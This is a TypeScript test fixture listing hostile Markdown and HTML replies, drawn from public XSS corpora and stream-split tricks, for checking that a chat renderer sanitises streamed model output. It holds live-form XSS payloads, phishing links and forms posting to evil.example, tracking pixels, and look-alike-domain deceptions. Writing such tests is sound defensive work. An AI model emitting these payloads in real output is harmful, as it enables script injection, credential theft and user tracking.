/**
 * Hostile replies for `xss-corpus.spec.ts`. Each is what a model (or a prompt injection speaking through it) could
 * send. Assembled from public corpora, adapted where a payload needed a trap to notice it: `__xss()` is a function the
 * test defines and expects never to be called; `alert`, `confirm` and `prompt` would open a dialog the test watches.
 *
 * Sources: markdown-it's test/fixtures/markdown-it/xss.txt (MIT); DOMPurify's test/fixtures/expect.mjs and its
 * mutation-XSS cases (Apache-2.0/MPL-2.0); rehype-harden's tests (link and image prefix checks, MIT); the Markdown XSS
 * payload lists (cujanovic/Markdown-XSS-Payloads, and OWASP's XSS filter evasion cheat sheet); and stream-specific
 * tricks written here: payloads cut into pieces so that a half-arrived state, rather than the whole, is hostile.
 */
export interface HostileReply {
  name: string;
  /** The reply as it arrives, piece by piece; by default the provider streams it word by word. */
  pieces?: string[];
  source: string;
  /** For a link that would lie about where it goes: the text the reply shows instead, with no link in it. */
  shows?: string;
}

const whole = (name: string, source: string): HostileReply => ({ name, source });
const lying = (name: string, source: string, shows: string): HostileReply => ({ name, source, shows });
const streamed = (name: string, pieces: string[]): HostileReply => ({ name, pieces, source: pieces.join('') });

export const XSS_CORPUS: HostileReply[] = [
  // markdown-it xss.txt
  whole('javascript: link', '[xss link](javascript:alert(1))'),
  whole('upper-case JAVASCRIPT: link', '[xss link](JAVASCRIPT:alert(1))'),
  whole('vbscript: link', '[xss link](vbscript:alert(1))'),
  whole('upper-case VBSCRIPT: link', '[xss link](VBSCRIPT:alert(1))'),
  whole('file: link', '[xss link](file:///123)'),
  whole(
    'entity-encoded script in a destination',
    '[xss link](&#34;&#62;&#60;script&#62;alert&#40;&#34;xss&#34;&#41;&#60;/script&#62;)',
  ),
  whole('decimal entity for the j', '[xss link](&#74;avascript:alert(1))'),
  whole('double-encoded entity', '[xss link](&#x26;#74;avascript:alert(1))'),
  whole('escaped entity', '[xss link](\\&#74;avascript:alert(1))'),
  whole('angle-bracket destination', '[xss link](<javascript:alert(1)>)'),
  whole('entity for the colon', '[xss link](javascript&#x3A;alert(1))'),
  whole('data:text/html link', '[xss link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)'),
  whole('upper-case DATA: link', '[xss link](DATA:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)'),
  whole('data:image/svg+xml image', '![xss](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)'),
  whole('javascript: autolink', '<javascript:alert(1)>'),
  whole('vbscript: autolink', '<vbscript:alert(1)>'),
  whole('data: autolink', '<data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K>'),
  whole('NUL inside an autolink', '<http://example.com/\u0000hack>'),
  whole('HTML inside a destination', '[normal link](<a href="javascript:alert(1)"></a>)'),
  // Markdown XSS payload lists
  whole('spaced-out javascript', '[a](j a v a s c r i p t:prompt(document.cookie))'),
  whole('javascript: image', '![a](javascript:prompt(document.cookie))'),
  whole(
    'hex entities without semicolons',
    '<&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  ),
  whole(
    'hex entities in a destination',
    '[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29)',
  ),
  whole('quote breaking out of an alt attribute', '![a\'"`onerror=__xss()](x)'),
  whole(
    'reference definition with a javascript: target',
    '[citelol]: javascript:__xss()\n\nSee [it][citelol] and [citelol].',
  ),
  whole('reference definition in parentheses', '[citelol]: (javascript:prompt(document.cookie))\n\n[x][citelol]'),
  whole('onerror set by the link itself', '[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)'),
  whole('javascript: with a CRLF comment', '[test](javascript://%0d%0aprompt(1))'),
  whole('javascript: looking like a domain', '[test](javascript://%0d%0aprompt(1);com)'),
  whole('javascript:this', '[a](javascript:this;alert(1&#41;)'),
  whole('entity colon without semicolon', '[a](javascript&#58this;alert(1&#41;)'),
  whole('entity inside the scheme', '[a](Javas&#99;ript:alert(1&#41;)'),
  whole('percent-encoded entity in the scheme', '[a](Javas%26%2399;ript:alert(1&#41;)'),
  whole('noncharacter in the call', '[a](javascript:alert&#65534;(1&#41;)'),
  whole('newline inside the URL', '[a](javascript://www.google.com%0Aalert(1))'),
  whole('mixed-case javascript', '[a](JaVaScRiPt:alert(1))'),
  whole('quoted javascript', '[a](\'javascript:alert("1")\')'),
  whole('onload smuggled into an image URL', '![a](https://www.example.com/image.png"onload="__xss())'),
  whole('onerror as the image URL', '![a]("onerror="__xss())'),
  whole('autolink with a script inside', '</http://<?><\\h1><script>__xss()</script>>'),
  whole('attribute injection through a query', '[ ](http://a?p=[[/onclick=__xss() .]])'),
  whole(
    'style injection through a query',
    '[ ](https://a.de?p=[[/data-x=. style=position:fixed;top:0;left:0;width:100%;height:100% data-x=.//]])',
  ),
  whole('template literal in javascript:', '[a](javascript:new%20Function`al\\ert\\`1\\``;)'),
  whole('leading control character', '[a](\u0001javascript:__xss())'),
  whole('tab inside the scheme', '[a](java\tscript:__xss())'),
  whole('protocol-relative link', '[a](//evil.example/steal)'),
  // DOMPurify's tests and its mutation-XSS cases: all raw HTML must stay text
  whole('img onerror', '<img src=x onerror=__xss()>'),
  whole('script element', '<script>__xss()</script>'),
  whole('svg onload', '<svg><g/onload=__xss()//<p>'),
  whole('math with xlink:href', '<math><mi//xlink:href="data:x,<script>__xss()</script>">'),
  whole('noscript mutation', '<noscript><p title="</noscript><img src=x onerror=__xss()>">'),
  whole(
    'form/math/mglyph namespace confusion',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>',
  ),
  whole('svg style mutation', '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">'),
  whole('raw anchor with javascript:', '<a href="javascript:__xss()">click</a>'),
  whole('iframe srcdoc', '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>'),
  whole('details ontoggle', '<details open ontoggle=__xss()>'),
  whole('autofocus input', '<input autofocus onfocus=__xss()>'),
  whole('object data', '<object data="javascript:__xss()"></object>'),
  whole('embed', '<embed src="javascript:__xss()">'),
  whole('base href', '<base href="javascript:/">[relative](x)'),
  whole('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:__xss()">'),
  whole('style import', '<style>@import "http://evil.example/x.css";</style>'),
  whole('style attribute', '<div style="background:url(javascript:__xss())">x</div>'),
  whole(
    'form with a password field',
    '<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>',
  ),
  whole('comment hiding a script', '<!--><script>__xss()</script>-->'),
  whole('CDATA', '<![CDATA[<script>__xss()</script>]]>'),
  whole('HTML block with blank lines', '<div>\n\n<img src=x onerror=__xss()>\n\n</div>'),
  whole(
    'inline HTML amid Markdown',
    'Some **bold** <b onmouseover=__xss()>text</b> and <span style="color:red">red</span>.',
  ),
  whole(
    'HTML in a table cell',
    '| a | b |\n| - | - |\n| <img src=x onerror=__xss()> | <a href="javascript:__xss()">x</a> |',
  ),
  whole('HTML in a list and a quote', '- <iframe src="javascript:__xss()">\n\n> <script>__xss()</script>'),
  // rehype-harden's tests: remote images and unapproved prefixes
  whole('tracking image', '![pixel](https://tracker.example/p.gif?user=visitor@example.com)'),
  whole('tracking image by reference', '![pixel][t]\n\n[t]: https://tracker.example/p.gif?u=1'),
  whole('relative image', '![local](/api/llm/v1/chat/completions)'),
  lying('credentials in a link', '[bank](https://user:pass@evil.example)', 'bank (https://user:pass@evil.example/)'),
  whole('link to a relative path', '[home](/admin)'),
  whole('fragment link', '[top](#root)'),
  // Links whose text names another host than they go to, or whose URL hides a host behind userinfo
  lying(
    'URL text for another host',
    '[https://bank.example](https://evil.example)',
    'https://bank.example (https://evil.example/)',
  ),
  lying('domain text for another host', '[bank.example](https://evil.example)', 'bank.example (https://evil.example/)'),
  lying(
    'domain and path text for another host',
    'Log in at [www.bank.example/login](https://evil.example/login).',
    'Log in at www.bank.example/login (https://evil.example/login).',
  ),
  // The destination has a Cyrillic "а": shown as the parser spells it, in punycode, the look-alike gives itself away.
  lying(
    'look-alike IDN destination',
    '[bank.example](https://bаnk.example)',
    'bank.example (https://xn--bnk-6cd.example/)',
  ),
  lying('backslash before userinfo', 'http://good.example\\@evil.example', 'http://good.example\\@evil.example'),
  lying('userinfo in a bare URL', 'https://user:pass@evil.example/', 'https://user:pass@evil.example/'),
  // Link texts that read as another host only to a reader: invisible characters, look-alike full stops, an override
  lying(
    'zero-width space in the text',
    '[ba\u200Bnk.example](https://evil.example/)',
    'ba\u200Bnk.example (https://evil.example/)',
  ),
  lying(
    'right-to-left override in the text',
    '[\u202Eelpmaxe.knab](https://evil.example/)',
    'elpmaxe.knab (https://evil.example/)',
  ),
  lying(
    'soft hyphen in the text',
    '[bank.example\u00AD](https://evil.example/)',
    'bank.example\u00AD (https://evil.example/)',
  ),
  lying(
    'ideographic full stop in the text',
    '[bank\u3002example](https://evil.example/)',
    'bank\u3002example (https://evil.example/)',
  ),
  lying(
    'full-width full stop in the text',
    '[bank\uFF0Eexample](https://evil.example/)',
    'bank\uFF0Eexample (https://evil.example/)',
  ),
  // Tricks that work only part-way through a stream
  streamed('javascript: completed by a later piece', ['[click me](javas', 'cript:__xss())']),
  streamed('entity completed by a later piece', ['[a](&#106;', 'avascript:__xss())']),
  streamed('script tag split across pieces', ['<scr', 'ipt>__xss()</scr', 'ipt>']),
  streamed('event handler split across pieces', ['<img src=x on', 'error=__xss()>']),
  streamed('allowed URL that turns into an attribute', ['[a](https://example.com', '/"onmouseover="__xss()', ')']),
  streamed('bare URL that grows into HTML', ['See https://example.com/', '<img src=x onerror=__xss()>']),
  streamed('code fence closed, then HTML', [
    '```\n<img src=x onerror=__xss()>',
    '\n```\n\n<img src=x onerror=__xss()>',
  ]),
  streamed('image whose URL arrives slowly', ['![pixel](https://tracker.exa', 'mple/p.gif?u=', '1)']),
  streamed('reference definition arriving after its use', ['[x][evil] is a link?\n\n', '[evil]: javascript:__xss()']),
  streamed('table whose cells arrive as HTML', ['| a |\n| - |\n| <img src=x ', 'onerror=__xss()> |']),
  streamed('emphasis closed around an autolink', ['**<javascript:', '__xss()>**']),
];
